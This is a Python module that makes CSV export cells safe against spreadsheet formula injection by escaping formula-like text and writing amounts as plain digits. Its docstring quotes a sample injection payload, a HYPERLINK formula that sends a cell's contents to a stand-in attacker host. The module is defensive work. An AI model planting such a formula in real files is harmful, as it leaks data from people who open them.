"""Cells for files people open in a spreadsheet: text that would run as a formula is written as text.

A spreadsheet treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and Excel
and LibreOffice also act on a leading tab or carriage return (OWASP, "CSV injection"). An org unit
named ``=HYPERLINK("http://evil.example?"&A1, "click")`` or a document called ``@SUM(1)`` would
otherwise run the moment finance opens an export. Such text gets a leading apostrophe, which every
spreadsheet shows as text. The full-width forms (``＝``, ``＋``, ``－``, ``＠``), which some
spreadsheets fold to the ASCII ones, are treated the same. Numbers are written as plain digits and
never escaped: a negative amount stays a number a spreadsheet can add up.
"""

from __future__ import annotations

import csv
import unicodedata
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from decimal import Decimal
from typing import Protocol

_FORMULA_STARTS = frozenset("=+-@")
_CONTROL_STARTS = frozenset("\t\r\n")


class Writable(Protocol):
    def write(self, text: str, /) -> object: ...


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet could read ``text`` as a formula (or a command) rather than as text."""
    if not text:
        return False
    if text[0] in _CONTROL_STARTS:
        return True
    first = text.lstrip()[:1]  # some spreadsheets trim leading spaces on import, so look past them
    return bool(first) and unicodedata.normalize("NFKC", first)[:1] in _FORMULA_STARTS


def spreadsheet_cell(value: object) -> str:
    """The cell's text: numbers as plain digits (``-1280.50``, never ``1.28E+3``), formula-like text escaped."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int):
        return str(value)
    if isinstance(value, Decimal):
        return format(value, "f")
    if isinstance(value, float):
        raise TypeError("amounts are written from Decimal, never from float")
    text = value.isoformat() if isinstance(value, date | datetime) else str(value)
    return "'" + text if is_formula_like(text) else text


def write_csv(out: Writable, header: Sequence[str], rows: Iterable[Sequence[object]]) -> int:
    """Write ``header`` and ``rows`` as CSV (RFC 4180, CRLF) with every cell made safe; returns the row count."""
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([spreadsheet_cell(name) for name in header])
    written = 0
    for row in rows:
        writer.writerow([spreadsheet_cell(value) for value in row])
        written += 1
    return written
